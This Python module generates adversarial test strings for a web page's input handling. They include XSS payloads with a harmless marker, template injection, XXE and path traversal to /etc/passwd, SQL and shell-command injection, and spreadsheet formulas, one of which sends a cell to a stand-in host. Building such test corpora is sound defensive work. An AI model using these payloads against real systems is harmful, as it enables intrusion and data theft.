"""Texts that try to be more than text."""

from collections.abc import Iterator
from itertools import product

RUN = "window.pwned=1"
QUOTES = ('"', "'", "`", "")


def texts() -> tuple[str, ...]:
    """All of them, each once; some two hundred and fifty, fewer than a page draws at once."""
    groups = (_tags(), _breaks(), _addresses(), _templates(), _drawings(), _styles(), _formulas(), _characters())
    return tuple(dict.fromkeys(text for group in (*groups, _names(), _data()) for text in group))


def _tags() -> Iterator[str]:
    """Elements that run a handler of their own, with each quote."""
    handlers = (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("select autofocus", "onfocus"),
        ("button popover", "onbeforetoggle"),
        ("style", "onload"),
        ("p style='animation:x'", "onanimationstart"),
    )
    for (tag, handler), mark in product(handlers, QUOTES):
        yield f"<{tag} {handler}={mark}{RUN}{mark}>"
    yield f"<IMG SRC=x OnErRoR={RUN}>"
    yield f"<img/src=x/onerror={RUN}>"
    yield f"<img\nsrc=x\tonerror\r\n=\f{RUN}>"
    yield f"<img src=x onerror={RUN}//"
    yield f"<<img src=x onerror={RUN}>>"
    yield f"&lt;img src=x onerror={RUN}&gt;"
    yield f"&#60;img src=x onerror={RUN}&#x3e;"
    yield f"\\u003cimg src=x onerror={RUN}\\u003e"
    yield f"\\x3cimg src=x onerror={RUN}\\x3e"
    yield f"%3Cimg%20src=x%20onerror={RUN}%3E"
    yield f"+ADw-img src=x onerror={RUN}+AD4-"  # UTF-7
    yield f"＜img src=x onerror={RUN}＞"
    yield f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>'
    yield f"<iframe src=javascript:parent.{RUN[7:]}>"
    yield f"<object data=javascript:{RUN}>"
    yield f"<embed src=javascript:{RUN}>"
    yield f"<form action=javascript:{RUN}><button>go</button></form>"
    yield f"<button formaction=javascript:{RUN} form=x>go</button>"
    yield "<base href=https://e.example/>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>"
    yield "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    yield "<link rel=stylesheet href=https://e.example/x.css>"
    yield "<link rel=preconnect href=https://e.example/>"
    yield "<img srcset='https://e.example/1.png 1x'>"
    yield f"<template><script>{RUN}</script></template>"
    yield f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'


def _breaks() -> Iterator[str]:
    """What would end the script, the style sheet, the comment or the attribute it stands in."""
    for end in (
        "</script>",
        "</SCRIPT >",
        "</script\n>",
        "</style>",
        "</title>",
        "</textarea>",
        "</svg>",
        "-->",
        "]]>",
    ):
        yield f"{end}<script>{RUN}</script>"
    for mark in QUOTES[:3]:
        yield f"{mark}><script>{RUN}</script>"
        yield f"{mark} onmouseover={mark}{RUN}{mark} x={mark}"
        yield f"{mark};{RUN};//"
        yield f"{mark}+({RUN})+{mark}"
        yield f"\\{mark};{RUN};//"
    yield f"<!--<script>{RUN}</script>"
    yield f"<![CDATA[<script>{RUN}</script>]]>"
    yield f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>"
    yield "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
    yield "*/ alert(1) /*"
    yield f"${{{RUN}}}"
    yield f"`${{{RUN}}}`"


def _addresses() -> Iterator[str]:
    """Addresses that run, in the spellings that browsers have taken for them."""
    for scheme in (
        "javascript",
        "JaVaScRiPt",
        "java\tscript",
        "java\nscript",
        " javascript",
        "\x01javascript",
        "vbscript",
    ):
        yield f"{scheme}:{RUN}"
    for colon in ("&colon;", "&#58;", "&#x3A;", "%3A", "\\u003a"):
        yield f"javascript{colon}{RUN}"
    yield f"javascript://e.example/%0a{RUN}"
    yield f"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{RUN}//'>"
    yield f"data:text/html,<script>{RUN}</script>"
    yield "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=="
    yield f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"
    yield "blob:https://e.example/0"
    yield "file:///etc/passwd"
    yield "filesystem:https://e.example/x"
    yield "about:blank"
    yield "//e.example/x.js"
    yield "https://user:secret@e.example:99999/"
    yield "https://[::1"
    yield f'https://e.example/?q="><script>{RUN}</script>'
    yield f"https://e.example/' onclick='{RUN}"
    yield "http://e.example/%00%0d%0aSet-Cookie:x=1"
    yield "https://еxаmple.example/"  # Cyrillic е and а
    yield "mailto:x@e.example?body=<script>"
    yield "view-source:https://e.example/"


def _templates() -> Iterator[str]:
    yield from (
        "{{ 7 * 7 }}",
        "{{ config.items() }}",
        "{% raw %}",
        "{% endraw %}{{ 7*7 }}",
        "{# gone #}",
        "{{''.__class__}}",
    )
    yield from (
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('window.pwned=1')()}}",
        "[[7*7]]",
        "%s%n%x %(name)s {0}",
    )


def _drawings() -> Iterator[str]:
    """SVG and MathML."""
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href='data:,{RUN}'/></svg>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><set attributeName=onmouseover to={RUN}>"
    yield "<svg><use href='https://e.example/x.svg#x'/></svg>"
    yield f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
    yield f"<svg><style><img src=x onerror={RUN}></style></svg>"
    yield "<svg><image href='https://e.example/x.png'/></svg>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>"
    yield f"<math href=javascript:{RUN}>x</math>"
    yield f"<math><maction actiontype='statusline' xlink:href='javascript:{RUN}'>x</maction></math>"


def _styles() -> Iterator[str]:
    yield "<style>*{background:url(https://e.example/x)}</style>"
    yield "<style>@import 'https://e.example/x.css'</style>"
    yield "x:expression(window.pwned=1)"
    yield "red;background:url(javascript:window.pwned=1)"
    yield "</style><img src=x onerror=window.pwned=1>"
    yield "\\3c script\\3e"
    yield "#canvas, .panel > *"
    yield "url('https://e.example/x')"


def _formulas() -> Iterator[str]:
    """What a spreadsheet would work out."""
    yield from ("=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://e.example/","x")')
    yield from ("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", '"=1+1"', "'=1+1", ";=1+1", ",=1+1", "＝1+1", "|calc", "%0A=1+1")
    yield '=IMPORTXML("https://e.example/?"&A1,"//x")'


def _characters() -> Iterator[str]:
    """Characters that end lines, turn the direction, or are none. XML and RDF have no NUL and no half of a pair."""
    for code in (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x11), 0x1B, 0x1F, 0x7F, 0x85, 0xA0, 0xAD):
        yield f"a{chr(code)}b control {code:02x}"
    for code in (
        0x200B,
        0x200D,
        0x200E,
        0x200F,
        0x2028,
        0x2029,
        0x202A,
        0x202E,
        0x2060,
        0x2066,
        0x2067,
        0xFEFF,
        0xFFFD,
    ):
        yield f"a{chr(code)}b mark {code:04x}"
    for code in (0xFFFE, 0xFFFF, 0xFDD0, 0xE000, 0x1FFFF, 0x10FFFF, 0xE0041):
        yield f"a{chr(code)}b no character {code:04x}"
    yield "\u202egnp.exe\u202c"
    yield "\\ud800 half a pair, written out"
    yield "Z" + "\u0301\u0322\u0353" * 40
    yield "w" * 3000
    yield "unbroken-" * 200
    yield "👩‍👩‍👧‍👦🏳️‍🌈🇺🇳"
    yield "ﷺ﷽"
    yield "line\r\nline\rline\nline\ttab"


def _names() -> Iterator[str]:
    """Names that objects of JavaScript have already, and words that programs take for nothing."""
    yield from ("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__")
    yield from (
        "isPrototypeOf",
        "length",
        "name",
        "then",
        "null",
        "undefined",
        "NaN",
        "Infinity",
        "true",
        "0",
        "-0",
        "1e999",
    )
    yield from (
        "constructor.prototype",
        "id",
        "canvas",
        "search",
        "evidence",
        "POLICYGRAPH",
        "window",
        "document",
        "group 0",
    )


def _data() -> Iterator[str]:
    """What looks like data of the page, or asks for what is not there."""
    yield '{"__proto__":{"pwned":1}}'
    yield '[{"id":-1}]'
    yield '"]}'
    yield "H4sIAAAAAAAA/6tWKk4tLs7Mz1OyUlAqSy0qBgBTyDRFFQAAAA=="
    yield "eyJhbGciOiJub25lIn0.e30."
    yield "#entity=0&hops=99"
    yield "a" + "=" * 40
    yield "../../etc/passwd"
    yield 'C:\\Windows\\x<>:"|?*'
    yield "'; DROP TABLE claims; --"
    yield "$(touch pwned)`touch pwned`;|&"
    yield "(a+)+$ " + "a" * 60 + "!"
    yield "<b>bold</b> & <i>more</i> &amp; &copy;"
    yield "-" * 3
    yield "\\"
    yield "\"'`<>&"
